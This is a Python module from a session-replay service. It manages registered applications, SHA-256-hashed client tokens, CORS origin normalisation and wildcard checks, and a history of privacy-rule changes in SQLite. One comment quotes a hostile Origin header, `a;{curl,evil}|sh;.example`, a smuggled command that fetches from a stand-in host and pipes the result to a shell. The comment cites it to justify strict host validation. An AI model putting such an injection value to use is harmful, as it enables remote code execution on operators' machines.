"""Applications and their client tokens: who may send sessions to the intake.

An application has a name (what people type), an id (what capture sends as `?app=`), the
origins its pages are served from (CORS), optional privacy rules of its own, and one
client token. Only the token's SHA-256 is stored: the token is shown once, at creation.
A client token is public by nature (it ships in the page), so it identifies the
application rather than guarding a secret; revoking it stops a leaked or retired site.

The table lives in its own SQLite file, `DATA/apps.sqlite3`, not in the session index:
the index is a cache rebuilt from the segment files (`replay repair`), applications are
not recoverable from anything else.
"""
from __future__ import annotations

import hashlib
import hmac
import json
import re
import secrets
import sqlite3
import threading
import time
from pathlib import Path
from typing import Callable, Iterable

import msgspec

from ..paths import APPS_FILE, sqlite_refused_folder

ANY_ORIGIN = "*"
_NAME = re.compile(r"^[A-Za-z0-9][A-Za-z0-9._-]{0,63}\Z")

_SCHEMA = """
CREATE TABLE IF NOT EXISTS applications (
    id TEXT PRIMARY KEY, name TEXT NOT NULL UNIQUE, token_sha256 TEXT NOT NULL,
    origins TEXT NOT NULL, rules TEXT, created_ms INTEGER NOT NULL, revoked_ms INTEGER
);
"""
_HISTORY_SCHEMA = """
CREATE TABLE IF NOT EXISTS rules_history (
    app_id TEXT NOT NULL, revision INTEGER NOT NULL, at_ms INTEGER NOT NULL, who TEXT NOT NULL,
    rules TEXT, summary TEXT NOT NULL, PRIMARY KEY (app_id, revision)
);
"""
# rules_history: each change of an application's own rules, as the data folder's
# rules-history/ keeps the folder's (privacy/history.py): `rules` the TOML text in force from
# that revision on (NULL: its own dropped, the intake's apply), `summary` a JSON list of what
# changed - rules, never recorded values. A file made before the table gets it by the first
# change made (reading one that cannot be written - a read-only copy - needs no table).


class AppError(ValueError):
    """A request about applications that cannot be done (unknown name, bad origin...);
    the message says what to do."""


class Application(msgspec.Struct, frozen=True, kw_only=True):
    id: str
    name: str
    origins: tuple[str, ...]
    rules: str | None          # TOML text of the application's own privacy rules
    created_ms: int
    revoked_ms: int | None

    @property
    def revoked(self) -> bool:
        return self.revoked_ms is not None

    def to_json(self) -> dict:
        """What `replay app list --json` shows (never the token or its hash)."""
        return {"id": self.id, "name": self.name, "origins": list(self.origins),
                "rules": self.rules is not None, "revoked": self.revoked}

    def allows_origin(self, origin: str) -> bool:
        """Whether a page whose Origin header is `origin` may send. Both sides normalised:
        an origin stored before normalisation dropped default ports and wrote hosts in
        punycode (https://Shop.example.com:443) still matches what browsers send."""
        if ANY_ORIGIN in self.origins:
            return True
        try:
            sent = normalize_origin(origin)
        except AppError:       # "null" (a sandboxed frame, a file:// page...): none of ours
            return False
        for o in self.origins:   # (each normalised once: this runs for every request)
            try:
                o = normalize_origin(o)
            except AppError:   # stored as written before normalising: compared as it is -
                if o == sent:  # never as a wildcard (an old `https://*.com` allows no page)
                    return True
                continue
            if o == sent or (WILD in o and _subdomain_of(sent, o)):
                return True
        return False


WILD = "://*."   # https://*.example.com: any subdomain of example.com, at any depth

DEFAULT_PORTS = {"http": 80, "https": 443}
_ORIGIN = re.compile(r"^(https?)://([^/?#\s@]+?)/?\Z", re.I)
_HOST_PORT = re.compile(r"^(\[[0-9A-Fa-f:.]+\]|[^:\[\]]+)(?::(\d{1,5}))?\Z")
# a host as a browser sends it, once in ASCII: dot-separated labels of letters, digits,
# hyphens (and underscores, which some intranets' names hold) - nothing a shell, a log or
# a page reads as more (an Origin header is anyone's to write: `a;{curl,evil}|sh;.example`
# went into the operator's log inside a command to paste)
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*)://", re.I)
_ASCII_HOST = re.compile(r"^(?:\*\.)?[a-z0-9_-]{1,63}(?:\.[a-z0-9_-]{1,63})*\.?\Z")


def checked_new(name: str, origins: Iterable[str] = ()) -> tuple[str, ...]:
    """A new application's origins, normalized, once its name and each origin are checked
    (AppError: what is wrong) - before any applications file is made or opened."""
    if not _NAME.match(name):
        raise AppError(f"application name {name!r} must be 1-64 letters, digits, '.', '_'"
                       " or '-', starting with a letter or digit")
    return tuple(dict.fromkeys(normalize_origin(o) for o in origins))


def normalize_origin(url: str) -> str:
    """An origin as browsers send it in the Origin header: scheme://host[:port], scheme and
    host lower-case, no default port (80 for http, 443 for https), an international host in
    punycode (`https://Bücher.example:443/` -> `https://xn--bcher-kva.example`). Raises
    AppError, in one line, for anything that cannot be one."""
    text = url.strip()
    if text == ANY_ORIGIN:
        return ANY_ORIGIN
    m = _ORIGIN.match(text)
    authority = m.group(2) if m else ""
    # `https://*.example.com`: every subdomain (`a.example.com`, `a.b.example.com`), not
    # example.com itself - it was stored as written and matched no page (a site owner's
    # tryout); a star anywhere else matches nothing a browser sends
    wild = authority.startswith("*.")
    hp = _HOST_PORT.match(authority[2:] if wild else authority) if m else None
    other = _SCHEME.match(text) if m is None else None
    if other is not None and other.group(1).lower() not in ("http", "https"):
        # (ftp://x is scheme://host: its scheme is the fault)
        raise AppError(f"origin {url!r}: a page's origin begins with http:// or https://, not"
                       f" {other.group(1)}://")
    if hp and wild and "*" not in hp.group(1) and not hp.group(1).startswith("[") \
            and _public_suffix(hp.group(1)):
        # (it was "is not scheme://host[:port]", which it is: an operator's tryout)
        under = hp.group(1).lower()
        raise AppError(f"origin {url!r}: {under} is a top-level or public domain, so a wildcard"
                       f" over it would allow every site under it - give the site's own domain"
                       f" (https://*.example.{under})")
    if not hp or "*" in hp.group(1) or (wild and hp.group(1).startswith("[")):
        raise AppError(f"origin {url!r} is not scheme://host[:port] (for example"
                       " https://shop.example.com), https://*.example.com for its subdomains,"
                       " or * for any origin")
    scheme, host, port = m.group(1).lower(), hp.group(1), hp.group(2)
    if port is not None and not 0 < int(port) < 65536:
        raise AppError(f"origin {url!r}: port {port} is not a port (1-65535)")
    if not host.startswith("["):
        host = ("*." if wild else "") + _ascii_host(url, host)
        if not _ASCII_HOST.match(host):
            raise AppError(f"origin {url!r}: its host is not a host name (letters, digits,"
                           " hyphens, underscores and dots)")
    if port is None or int(port) == DEFAULT_PORTS[scheme]:
        return f"{scheme}://{host}"
    return f"{scheme}://{host}:{int(port)}"


# second levels under which countries register domains (example.co.uk, example.com.au): a
# wildcard over one of them (`*.co.uk`) would allow every site of the country's companies
_COUNTRY_SECOND_LEVELS = frozenset({"ac", "co", "com", "edu", "gob", "go", "gov", "mil",
                                    "ne", "net", "nic", "or", "org"})


def _public_suffix(domain: str) -> bool:
    """Whether a wildcard's `domain` is one anybody registers under (com, co.uk): then it
    names no site of one owner. A short list, not the Public Suffix List: a country's own
    second levels beyond these (`*.nhs.uk`) are accepted."""
    labels = domain.strip(".").lower().split(".")
    return len(labels) < 2 or (len(labels) == 2 and len(labels[1]) == 2
                               and labels[0] in _COUNTRY_SECOND_LEVELS)


def _subdomain_of(sent: str, wild: str) -> bool:
    """Whether the origin `sent` is a subdomain origin that `wild` (scheme://*.domain[:port])
    allows: the same scheme and port, a host ending in .domain."""
    scheme, _, rest = wild.partition(WILD)
    domain, _, port = rest.partition(":")
    s_scheme, _, s_rest = sent.partition("://")
    s_host, _, s_port = s_rest.rpartition(":") if s_rest.count(":") == 1 else (s_rest, "", "")
    return s_scheme == scheme and s_port == port and s_host.endswith("." + domain) \
        and not s_host.startswith("[")


def _ascii_host(url: str, host: str) -> str:
    """The host as a browser writes it in an Origin: lower-case, IDNA (UTS #46) punycode."""
    if host.isascii():
        return host.lower()
    try:
        try:
            import idna   # UTS #46, as browsers map (a dependency of starlette's anyio)
            return idna.encode(host, uts46=True).decode("ascii").lower()
        except ImportError:
            return host.encode("idna").decode("ascii").lower()
    except (UnicodeError, ValueError) as exc:
        raise AppError(f"origin {url!r}: its host cannot be written as a browser sends it"
                       f" ({exc}) - give it in punycode (xn--...)") from None


def _valid(origin: str) -> bool:
    try:
        normalize_origin(origin)
    except AppError:
        return False
    return True


def _stored(origin: str) -> str:
    """A stored origin as compared now (stored before normalisation, it may differ)."""
    try:
        return normalize_origin(origin)
    except AppError:
        return origin


def unreadable(data_dir: Path | str, exc: Exception) -> str:
    """What is said of an applications file SQLite cannot read. In a folder that cannot be
    written, that is why (SQLite's log files are made beside it), not damage: "restore it
    from a backup, or move it aside" would have thrown away every application and token of
    an intact file (an operator's tryout)."""
    if sqlite_refused_folder(exc, data_dir):
        return (f"the data folder {data_dir} cannot be written, and its applications file"
                f" needs that to be read ({exc}) - the file is as it was: let this user write"
                " the folder, or copy it somewhere writable and give that with --data")
    return (f"the applications file {Path(data_dir) / APPS_FILE} cannot be read ({exc}) -"
            " restore it from a backup, or move it aside to start without applications")


def token_hash(token: str) -> str:
    return hashlib.sha256(token.encode()).hexdigest()


class Applications:
    """The applications table of a data folder (safe to use from several processes)."""

    def __init__(self, data_dir: Path | str):
        """AppError (one line: what, and what to do) when the file is not a database."""
        path = Path(data_dir) / APPS_FILE
        self._lock = threading.Lock()
        self.db = sqlite3.connect(str(path), timeout=30, check_same_thread=False,
                                  isolation_level=None)
        try:
            self.db.execute("PRAGMA journal_mode=WAL")
            self.db.execute("PRAGMA synchronous=FULL")
            self.db.executescript(_SCHEMA)
        except sqlite3.DatabaseError as exc:
            self.db.close()
            raise AppError(unreadable(data_dir, exc)) from None

    def close(self) -> None:
        self.db.close()

    def _write(self, sql: str, params: tuple) -> None:
        """A change, then copied into the file itself: while `replay serve` keeps the file
        open, SQLite leaves changes in its log (`apps.sqlite3-wal`) - and a backup that
        copied the file without it went back to an application's older rules and tokens
        unsaid (an operator's tryout). (In a transaction: `execute`, then `_into_file` once
        it commits.)"""
        self.db.execute(sql, params)
        self._into_file()

    def _into_file(self) -> None:
        # FULL: waits (the connection's busy timeout) for a reader of an older snapshot - a
        # serve worker mid-read - where PASSIVE stopped at it, the change still in the log
        self.db.execute("PRAGMA wal_checkpoint(FULL)")

    def create(self, name: str, origins: list[str] = ()) -> tuple[Application, str]:
        """A new application and its client token (the only time the token is seen)."""
        allowed = checked_new(name, origins)
        app_id = "app_" + secrets.token_hex(8)
        token = "rt_" + secrets.token_urlsafe(24)
        with self._lock:
            try:
                self._write("INSERT INTO applications VALUES (?,?,?,?,?,?,?)",
                                (app_id, name, token_hash(token), json.dumps(allowed), None,
                                 int(time.time() * 1000), None))
            except sqlite3.IntegrityError:
                was = self._get(name)
                raise AppError(
                    f"an application named {name!r} exists already" +
                    (f" (its token revoked: `replay app token {name}` gives it a new one)"
                     if was.revoked else " - pick another name (`replay app list` shows them),"
                     f" or `replay app token {name}` for a new token") ) from None
        return self.get(name), token

    def new_token(self, name_or_id: str) -> tuple[Application, str]:
        """A new client token for an application (the only time it is seen): the old one is
        refused from now on, and a revoked application is active again."""
        token = "rt_" + secrets.token_urlsafe(24)
        with self._lock:
            app = self._get(name_or_id)
            self._write("UPDATE applications SET token_sha256=?, revoked_ms=NULL WHERE id=?",
                            (token_hash(token), app.id))
        return self.get(app.id), token

    def list(self) -> list[Application]:
        return [_app(r) for r in self._rows("SELECT * FROM applications ORDER BY created_ms")]

    def get(self, name_or_id: str) -> Application:
        with self._lock:
            return self._get(name_or_id)

    def _get(self, name_or_id: str) -> Application:
        rows = self.db.execute("SELECT * FROM applications WHERE name=? OR id=?",
                               (name_or_id, name_or_id)).fetchall()
        if not rows:
            raise AppError(f"no application {name_or_id!r} - `replay app list` shows them,"
                           " `replay app create NAME` makes one")
        return _app(rows[0])

    def find(self, app_id: str) -> Application | None:
        rows = self._rows("SELECT * FROM applications WHERE id=?", (app_id,))
        return _app(rows[0]) if rows else None

    def check_token(self, app: Application, token: str) -> bool:
        want = self._rows("SELECT token_sha256 FROM applications WHERE id=?", (app.id,))
        return bool(want) and hmac.compare_digest(want[0][0], token_hash(token))

    def revoke(self, name_or_id: str) -> Application:
        app = self.get(name_or_id)
        with self._lock:
            self._write("UPDATE applications SET revoked_ms=coalesce(revoked_ms, ?)"
                            " WHERE id=?", (int(time.time() * 1000), app.id))
        return self.get(app.id)

    def set_rules(self, name_or_id: str, rules_text: str | None, *, who: str = "",
                  summary: Callable[[str | None], Iterable[str]] = lambda was: ()
                  ) -> Application:
        """The application's own privacy rules (TOML text, checked by the caller), or None
        to fall back to the intake's; a change is kept in its history as the next revision,
        with `who` made it and `summary(the rules it had)`, what changed (the caller's words:
        rules, never recorded values) - asked in the change's transaction, so it describes
        the change made, whoever changed them a moment before. Setting what is in force
        already keeps no revision."""
        with self._lock:
            self.db.execute("BEGIN IMMEDIATE")   # the revision's number: no other writer between
            try:
                app = self._get(name_or_id)
                if app.rules != rules_text:
                    self.db.execute(_HISTORY_SCHEMA)   # (one statement, in the transaction)
                    self.db.execute("UPDATE applications SET rules=? WHERE id=?",
                                    (rules_text, app.id))
                    last = self._last_revision(app.id)
                    now = int(time.time() * 1000)
                    if last == 0 and app.rules is not None:   # set before history was kept:
                        # when and by whom not known (0, "")
                        last = self._keep(app.id, 1, 0, "", app.rules, [BEFORE_HISTORY])
                    self._keep(app.id, last + 1, now, who, rules_text, summary(app.rules))
            except BaseException:
                self.db.execute("ROLLBACK")
                raise
            self.db.execute("COMMIT")
            self._into_file()
        return self.get(app.id)

    def _keep(self, app_id: str, revision: int, at_ms: int, who: str, rules: str | None,
              summary: Iterable[str]) -> int:
        self.db.execute("INSERT INTO rules_history VALUES (?,?,?,?,?,?)",
                        (app_id, revision, at_ms, who, rules, json.dumps(list(summary))))
        return revision

    def _last_revision(self, app_id: str) -> int:
        """The last revision of an application's own rules (0: none kept; a file from before
        the history has no table for them)."""
        if not self.db.execute("SELECT 1 FROM sqlite_master WHERE type='table' AND"
                               " name='rules_history'").fetchall():
            return 0
        return self.db.execute("SELECT max(revision) FROM rules_history WHERE app_id=?",
                               (app_id,)).fetchone()[0] or 0

    def rules_revision(self, name_or_id: str) -> tuple[Application, int]:
        """The application and the last revision of its own rules (0: none kept)."""
        with self._lock:
            app = self._get(name_or_id)
            return app, self._last_revision(app.id)

    def rules_history(self, name_or_id: str) -> tuple[Application, list[RulesChange]]:
        """The application and every change of its own rules, oldest first."""
        with self._lock:
            app = self._get(name_or_id)
            if not self._last_revision(app.id):
                return app, []   # none kept (a file from before the history has no table)
            rows = self.db.execute("SELECT revision, at_ms, who, rules, summary FROM"
                                   " rules_history WHERE app_id=? ORDER BY revision",
                                   (app.id,)).fetchall()
        return app, [RulesChange(revision=r, at_ms=at, who=who, rules=rules,
                                 summary=tuple(json.loads(summary)))
                     for r, at, who, rules, summary in rows]

    def change_origins(self, name_or_id: str, add: list[str] = (),
                       remove: list[str] = ()) -> Application:
        """Add and remove origins of an application (checked all first: a bad one changes
        nothing); the intake sees the change on the next request."""
        added = [normalize_origin(o) for o in add]
        with self._lock:
            self.db.execute("BEGIN IMMEDIATE")   # read-modify-write: no other writer between
            try:
                app = self._get(name_or_id)
                stored = [_stored(o) for o in app.origins]   # as they are compared now
                # one stored as written that is no origin now goes as it was written
                removed = [o if o in stored and not _valid(o) else normalize_origin(o)
                           for o in remove]
                missing = [o for o in removed if o not in stored]
                if missing:
                    raise AppError(f"application {app.name} has no origin {missing[0]} - its"
                                   f" origins: {', '.join(app.origins) or 'none'}")
                kept = [o for o in stored if o not in removed]
                origins = tuple(dict.fromkeys(kept + added))
                self.db.execute("UPDATE applications SET origins=? WHERE id=?",
                                (json.dumps(origins), app.id))
            except BaseException:
                self.db.execute("ROLLBACK")
                raise
            self.db.execute("COMMIT")
            self._into_file()
        return self.get(app.id)

    def _rows(self, sql: str, args: tuple = ()) -> list:
        with self._lock:
            return self.db.execute(sql, args).fetchall()


class RulesChange(msgspec.Struct, frozen=True, kw_only=True):
    """One change of an application's own rules (`replay app rules NAME --history`)."""
    revision: int
    at_ms: int
    who: str
    rules: str | None          # the TOML text in force from here on; None: the intake's
    summary: tuple[str, ...]   # what changed, a line each

    def to_json(self) -> dict:
        return msgspec.to_builtins(self)


# the first change recorded of rules set before their history was kept: what they were
BEFORE_HISTORY = "its own rules as they were when their history began"


def _app(row) -> Application:
    app_id, name, _hash, origins, rules, created, revoked = row
    return Application(id=app_id, name=name, origins=tuple(json.loads(origins)), rules=rules,
                       created_ms=created, revoked_ms=revoked)
